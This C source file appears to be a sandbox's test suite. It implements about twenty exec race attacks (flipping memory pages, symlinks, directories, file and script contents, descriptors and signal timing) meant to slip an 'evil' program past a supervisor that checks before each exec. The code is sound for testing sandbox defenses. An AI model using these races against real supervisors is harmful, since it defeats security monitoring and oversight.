// SPDX-License-Identifier: Apache-2.0
// escape_race KIND TRIES: executes something again and again while somebody flips what it is
// between a form that may run ("good") and one that may not ("evil"). Before each try it looks, as
// a supervisor would, and goes on only when it sees the good form: run without cellrun it shows
// that looking first is not enough. What really ran is counted outside, by the files ran.good and
// ran.evil.
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum { kPage = 4096 };

static char* page;         // holds what is flipped
static char* text;         // the four bytes in it: "good" or "evil"
static char* argv_[3];     // of the exec
static char* env_[2];      // of the exec
static const char* path_;  // of the exec

// ---- who flips

static void Pause(long nanoseconds) {  // spinning: a sleep would be too long
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  do {
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - begin.tv_sec) * 1000000000L + now.tv_nsec - begin.tv_nsec < nanoseconds);
}

static void Store(const char* word) {  // at once: never half of each
  uint32_t value;
  memcpy(&value, word, sizeof value);
  __atomic_store_n((uint32_t*)(void*)text, value, __ATOMIC_SEQ_CST);
}
static void FlipText(void) {
  Store("evil");
  Pause(30000);
  Store("good");
  Pause(30000);
}
static int TextLooksGood(void) {
  return memcmp(text, "good", 4) == 0;
}

static void (*flip)(void);
static void* FlipInThread(void* unused) {
  (void)unused;
  for (;;) flip();
  return NULL;
}
static void StartThread(void) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, FlipInThread, NULL) != 0) _exit(kNotTried);
}
static pid_t flipper;
static void StartProcess(void) {
  flipper = fork();
  if (flipper != 0) return;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  FlipInThread(NULL);
}

// ---- the loop

static int Spawn(void) {  // vfork: the very same pointers reach execve
  const pid_t pid = vfork();
  if (pid == 0) {
    execve(path_, argv_, env_);
    _exit(127);
  }
  return pid < 0 ? -1 : StatusOf(pid);
}

static int Loop(long tries, int (*looks_good)(void), int (*attempt)(void)) {
  long ran = 0, refused = 0, killed = 0;
  for (long i = 0; i < tries; ++i) {
    for (long looks = 0; !looks_good() && looks < 100000; ++looks) {
      if (looks % 64 == 63) sched_yield();
    }
    const int status = attempt();
    if (status == 0) {
      ++ran;
    } else if (status > 128) {
      ++killed;
    } else {
      ++refused;
    }
  }
  if (flipper > 0) {
    kill(flipper, SIGKILL);
    StatusOf(flipper);
  }
  printf("tries %ld ran %ld refused %ld killed %ld\n", tries, ran, refused, killed);
  return 0;
}

// ---- argument, environment and path, in memory of each kind

static int UseArgument(void) {
  static char prefix[] = "mark";
  path_ = "./good";
  memcpy(page + 1, "as=good", 8);
  text = page + 4;  // aligned: it can be stored at once
  argv_[0] = prefix;
  argv_[1] = page + 1;
  return 0;
}
static int UseEnvironment(void) {
  static char name[] = "mark";
  path_ = "./good";
  memcpy(page + 3, "MARK=good", 10);
  text = page + 8;
  argv_[0] = name;
  env_[0] = page + 3;
  return 0;
}
static int UsePath(void) {
  static char name[] = "mark";
  memcpy(page + 2, "./good", 7);
  text = page + 4;
  path_ = page + 2;
  argv_[0] = name;
  return 0;
}

static char* MapAnonymous(void) {
  return mmap(NULL, kPage, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
}
static char* MapFile(int fd) {
  if (fd < 0 || ftruncate(fd, kPage) != 0) return MAP_FAILED;
  return mmap(NULL, kPage, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
}
static char* MapMemoryFile(void) {
  return MapFile(memfd_create("page", MFD_CLOEXEC));
}
static char* MapWorkspaceFile(void) {
  return MapFile(open("page", O_RDWR | O_CREAT | O_CLOEXEC, 0666));
}
static char* MapSystemV(void) {
  const int id = shmget(IPC_PRIVATE, kPage, IPC_CREAT | 0600);
  char* place = id < 0 ? MAP_FAILED : shmat(id, NULL, 0);
  if (id >= 0) shmctl(id, IPC_RMID, NULL);
  return place;
}

static int FlipMemory(char* (*map)(void), int (*use)(void), void (*start)(void), char** arguments) {
  page = map();
  if (page == MAP_FAILED) return NotTried("no page: %s", ErrorName());
  use();
  flip = FlipText;
  start();
  return Loop(atol(arguments[0]), TextLooksGood, Spawn);
}
static int ArgumentByThread(char** arguments) {
  return FlipMemory(MapAnonymous, UseArgument, StartThread, arguments);
}
static int ArgumentByProcess(char** arguments) {
  return FlipMemory(MapAnonymous, UseArgument, StartProcess, arguments);
}
static int ArgumentInMemoryFile(char** arguments) {
  return FlipMemory(MapMemoryFile, UseArgument, StartProcess, arguments);
}
static int ArgumentInSystemV(char** arguments) {
  return FlipMemory(MapSystemV, UseArgument, StartProcess, arguments);
}
static int EnvironmentByProcess(char** arguments) {
  return FlipMemory(MapAnonymous, UseEnvironment, StartProcess, arguments);
}
static int PathByThread(char** arguments) {
  return FlipMemory(MapAnonymous, UsePath, StartThread, arguments);
}
// The page is a file that another cell maps as well: `flip-file` runs there.
static void StartNobody(void) {}
static int ArgumentInWorkspaceFile(char** arguments) {
  return FlipMemory(MapWorkspaceFile, UseArgument, StartNobody, arguments);
}
static int FlipFile(char** arguments) {  // until the file ARGUMENT exists
  page = MapWorkspaceFile();
  if (page == MAP_FAILED) return NotTried("no page: %s", ErrorName());
  UseArgument();
  close(open("flipping", O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
  while (access(arguments[0], F_OK) != 0) {
    for (int i = 0; i < 100; ++i) FlipText();
  }
  return 0;
}

// The page with the path of the evil program is away while somebody looks, and back for the kernel.
// A supervisor that takes "cannot be read" for "cannot be judged, go on" has lost.
static void FlipMapping(void) {
  munmap(page, kPage);
  Pause(15000);
  if (mmap(page, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) ==
      MAP_FAILED)
    _exit(kNotTried);
  memcpy(page + 2, "./evil", 7);
  Pause(45000);
}
static int PageIsAway(void) {
  char copy[8];
  struct iovec local = {copy, 6}, remote = {page + 2, 6};
  return syscall(SYS_process_vm_readv, getpid(), &local, 1, &remote, 1, 0) < 0;
}
static int UnmappedPath(char** arguments) {
  static char name[] = "mark";
  page = mmap(NULL, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  path_ = page + 2;
  argv_[0] = name;
  flip = FlipMapping;
  StartThread();
  return Loop(atol(arguments[0]), PageIsAway, Spawn);
}

// ---- names

static void Point(const char* to) {
  unlink("next");  // of a flipper that was killed in between
  if (symlink(to, "next") != 0 || rename("next", "name") != 0) _exit(kNotTried);
}
static void FlipLink(void) {
  Point("evil");
  Pause(30000);
  Point("good");
  Pause(30000);
}
static int LinkLooksGood(void) {
  char target[8] = "";
  return readlink("name", target, 4) == 4 && memcmp(target, "good", 4) == 0;
}
static int Link(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  path_ = "./name";
  Point("good");
  flip = FlipLink;
  StartProcess();
  return Loop(atol(arguments[0]), LinkLooksGood, Spawn);
}

// The end of a file, which tells the two copies apart.
static int FileLooksGood(const char* name) {
  char tail[4] = "";
  const int fd = open(name, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  lseek(fd, -4, SEEK_END);
  const ssize_t count = read(fd, tail, 4);
  close(fd);
  return count == 4 && memcmp(tail, "good", 4) == 0;
}
static int ExchangedLooksGood(void) {
  return FileLooksGood("a/tool");
}
static void FlipDirectories(void) {
  if (syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE) != 0) _exit(kNotTried);
  Pause(30000);
}
static int Rename(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  path_ = "./a/tool";
  flip = FlipDirectories;
  StartProcess();
  return Loop(atol(arguments[0]), ExchangedLooksGood, Spawn);
}

// ---- contents

static int ToolLooksGood(void) {
  return FileLooksGood("tool");
}
static int WriteTail(const char* word) {
  const int fd = open("tool", O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;  // ETXTBSY: it runs
  struct stat status;
  fstat(fd, &status);
  const ssize_t count = pwrite(fd, word, 4, status.st_size - 4);
  close(fd);
  return count == 4 ? 0 : -1;
}
static void FlipContent(void) {
  WriteTail("evil");
  Pause(30000);
  WriteTail("good");
  Pause(30000);
}
static int Content(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  path_ = "./tool";
  flip = FlipContent;
  StartProcess();
  return Loop(atol(arguments[0]), ToolLooksGood, Spawn);
}
static void FlipFileByRename(void) {
  unlink("next");
  if (link("evil", "next") != 0 || rename("next", "tool") != 0) _exit(kNotTried);
  Pause(30000);
  unlink("next");
  if (link("good", "next") != 0 || rename("next", "tool") != 0) _exit(kNotTried);
  Pause(30000);
}
static int Replaced(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  path_ = "./tool";
  FlipFileByRename();
  flip = FlipFileByRename;
  StartProcess();
  return Loop(atol(arguments[0]), ToolLooksGood, Spawn);
}

// ---- scripts: "#!./good\n" or "#!./evil\n", and "#!./good as=good\n"

static off_t word_at;  // where in the script the four bytes are
static int ScriptLooksGood(void) {
  char word[4] = "";
  const int fd = open("script", O_RDONLY | O_CLOEXEC);
  const ssize_t count = pread(fd, word, 4, word_at);
  close(fd);
  return count == 4 && memcmp(word, "good", 4) == 0;
}
static void WriteScript(const char* name, const char* content) {
  const int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0777);
  if (fd >= 0 && write(fd, content, strlen(content)) < 0) _exit(kNotTried);
  if (fd >= 0) close(fd);
}
static const char *good_script, *evil_script;
static void FlipScript(void) {  // in place: no truncation, the length stays
  WriteScript("script", evil_script);
  Pause(30000);
  WriteScript("script", good_script);
  Pause(30000);
}
static void FlipScriptByRename(void) {
  WriteScript("next", evil_script);
  if (rename("next", "script") != 0) _exit(kNotTried);
  Pause(30000);
  WriteScript("next", good_script);
  if (rename("next", "script") != 0) _exit(kNotTried);
  Pause(30000);
}
static int FlipScripts(const char* good, const char* evil, off_t at, void (*how)(void),
                       char** arguments) {
  static char name[] = "script";
  argv_[0] = name;
  path_ = "./script";
  good_script = good;
  evil_script = evil;
  word_at = at;
  WriteScript("script", good);
  flip = how;
  StartProcess();
  return Loop(atol(arguments[0]), ScriptLooksGood, Spawn);
}
static int Script(char** arguments) {
  return FlipScripts("#!./good\n", "#!./evil\n", 4, FlipScript, arguments);
}
static int ScriptReplaced(char** arguments) {
  return FlipScripts("#!./good\n", "#!./evil\n", 4, FlipScriptByRename, arguments);
}
static int ScriptArgument(char** arguments) {
  return FlipScripts("#!./good as=good\n", "#!./good as=evil\n", 12, FlipScript, arguments);
}
// ---- what an exec shares with threads of its own process

// The child makes a thread that flips, and executes.
static int SpawnWithThread(void) {
  const pid_t pid = fork();
  if (pid == 0) {
    StartThread();
    Pause(20000);
    syscall(SYS_execve, path_, argv_, env_);
    _exit(127);
  }
  return pid < 0 ? -1 : StatusOf(pid);
}
static int Always(void) {
  return 1;
}
static void FlipDirectory(void) {
  if (chdir("../evil-place") != 0) _exit(kNotTried);
  Pause(10000);
  if (chdir("../good-place") != 0) _exit(kNotTried);
  Pause(10000);
}
static int Directory(char** arguments) {
  static char name[] = "mark", as[] = "as=here";
  argv_[0] = name;
  argv_[1] = as;
  path_ = "../good";
  mkdir("good-place", 0777);
  mkdir("evil-place", 0777);
  if (chdir("good-place") != 0) return NotTried("chdir");
  flip = FlipDirectory;
  return Loop(atol(arguments[0]), Always, SpawnWithThread);
}

static int good_fd, evil_fd;
enum { kFlippedFd = 77 };
static void FlipDescriptor(void) {
  dup2(evil_fd, kFlippedFd);
  Pause(10000);
  dup2(good_fd, kFlippedFd);
  Pause(10000);
}
static int SpawnDescriptor(void) {
  const pid_t pid = fork();
  if (pid == 0) {
    dup2(good_fd, kFlippedFd);
    StartThread();
    Pause(20000);
    syscall(SYS_execveat, kFlippedFd, "", argv_, env_, AT_EMPTY_PATH);
    _exit(127);
  }
  return pid < 0 ? -1 : StatusOf(pid);
}
static int Descriptor(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  good_fd = open("good", O_PATH | O_CLOEXEC);
  evil_fd = open("evil", O_PATH | O_CLOEXEC);
  flip = FlipDescriptor;
  return Loop(atol(arguments[0]), Always, SpawnDescriptor);
}

// ---- signals: an exec that is interrupted, and another one by the same thread

static sigjmp_buf again;
static void OnAlarm(int signal) {
  (void)signal;
  siglongjmp(again, 1);
}
static long delay_us;
static int SpawnInterrupted(void) {
  delay_us = (delay_us + 7) % 400 + 1;
  const pid_t pid = fork();
  if (pid == 0) {
    const char* program = "./good";
    if (sigsetjmp(again, 1) != 0) program = "./evil";
    signal(SIGALRM, OnAlarm);
    const struct itimerval timer = {.it_value = {.tv_usec = delay_us}};
    if (program[2] == 'g') setitimer(ITIMER_REAL, &timer, NULL);
    execve(program, argv_, env_);
    _exit(127);
  }
  return pid < 0 ? -1 : StatusOf(pid);
}
static int Interrupted(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  return Loop(atol(arguments[0]), Always, SpawnInterrupted);
}

// Killed at any moment of its exec, the next one takes its number sooner or later.
static int SpawnKilled(void) {
  static unsigned turn;
  const int evil = ++turn % 2 == 0;
  const pid_t pid = fork();
  if (pid == 0) {
    execve(evil ? "./evil" : "./good", argv_, env_);
    _exit(127);
  }
  if (pid < 0) return -1;
  Pause((long)(turn * 7919 % 600) * 1000);
  if (turn % 8 != 1) kill(pid, SIGKILL);  // some get through: otherwise nothing is shown
  return StatusOf(pid);
}
static int Killed(char** arguments) {
  static char name[] = "mark";
  argv_[0] = name;
  return Loop(atol(arguments[0]), Always, SpawnKilled);
}

static const struct Attack kRaces[] = {
    {"argument-thread", 1, ArgumentByThread},
    {"argument-process", 1, ArgumentByProcess},
    {"argument-memory-file", 1, ArgumentInMemoryFile},
    {"argument-system-v", 1, ArgumentInSystemV},
    {"argument-workspace-file", 1, ArgumentInWorkspaceFile},
    {"flip-file", 1, FlipFile},
    {"environment", 1, EnvironmentByProcess},
    {"path", 1, PathByThread},
    {"unmapped-path", 1, UnmappedPath},
    {"link", 1, Link},
    {"rename", 1, Rename},
    {"content", 1, Content},
    {"replaced", 1, Replaced},
    {"script", 1, Script},
    {"script-replaced", 1, ScriptReplaced},
    {"script-argument", 1, ScriptArgument},
    {"directory", 1, Directory},
    {"descriptor", 1, Descriptor},
    {"interrupted", 1, Interrupted},
    {"killed", 1, Killed},
};

int main(int argc, char** argv) {
  return RunAttack(kRaces, COUNT(kRaces), argc, argv);
}
